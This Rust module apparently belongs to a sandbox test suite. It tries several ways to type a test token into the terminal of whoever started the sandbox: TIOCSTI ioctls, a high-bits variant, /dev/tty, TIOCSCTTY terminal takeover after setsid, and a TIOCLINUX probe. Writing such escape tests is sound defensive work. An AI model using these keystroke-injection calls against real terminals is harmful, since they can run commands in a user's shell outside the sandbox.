//! Writing into the terminal of whoever started the sandbox.

use super::{Args, Attack, Attempt, Named as _, any_of, sys};

pub(crate) const ATTACKS: &[(&str, Attack)] = &[
    ("tiocsti", |args| push(args, TIOCSTI)),
    ("tiocsti-high-bits", |args| push(args, TIOCSTI | 1 << 32)),
    ("tiocsti-dev-tty", dev_tty),
    ("tiocsctty", take_terminal),
    ("tioclinux", tioclinux),
];

const TIOCSTI: usize = 0x5412;
const TIOCSCTTY: usize = 0x540e;
const TIOCLINUX: usize = 0x541c;

/// Types the token, as if on the keyboard.
fn push_into(fd: sys::Fd, args: &Args, request: usize) -> Attempt {
    for byte in format!("{}\n", args.get("token")).bytes() {
        let mut data = [0; 64];
        data[0] = byte;
        sys::ioctl_memory(fd, request, &mut data).named("TIOCSTI")?;
    }
    Ok("typed the token".to_owned())
}

fn push(args: &Args, request: usize) -> Attempt {
    any_of((0..3).map(|fd| push_into(fd, args, request)))
}

/// Through the name that leads to the controlling terminal, whatever the standard streams are.
fn dev_tty(args: &Args) -> Attempt {
    let fd = sys::openat(sys::CWD, c"/dev/tty", 2, 0).named("/dev/tty")?;
    push_into(fd as sys::Fd, args, TIOCSTI)
}

/// Makes the terminal its own first, in a session of its own.
fn take_terminal(args: &Args) -> Attempt {
    super::in_child(|| {
        let _ = sys::setsid();
        any_of([0, 1].map(|steal| {
            sys::ioctl(0, TIOCSCTTY, steal).named(format_args!("TIOCSCTTY({steal})"))?;
            push_into(0, args, TIOCSTI)
        }))
    })
}

/// Asks a virtual console, which is the standard input, to do something for it. The state of the
/// shift keys is harmless; what pastes into the console goes through the same door.
fn tioclinux(_: &Args) -> Attempt {
    let mut data = [0; 64];
    data[0] = 6;
    sys::ioctl_memory(0, TIOCLINUX, &mut data).named("TIOCLINUX")?;
    Ok("the console answers".to_owned())
}
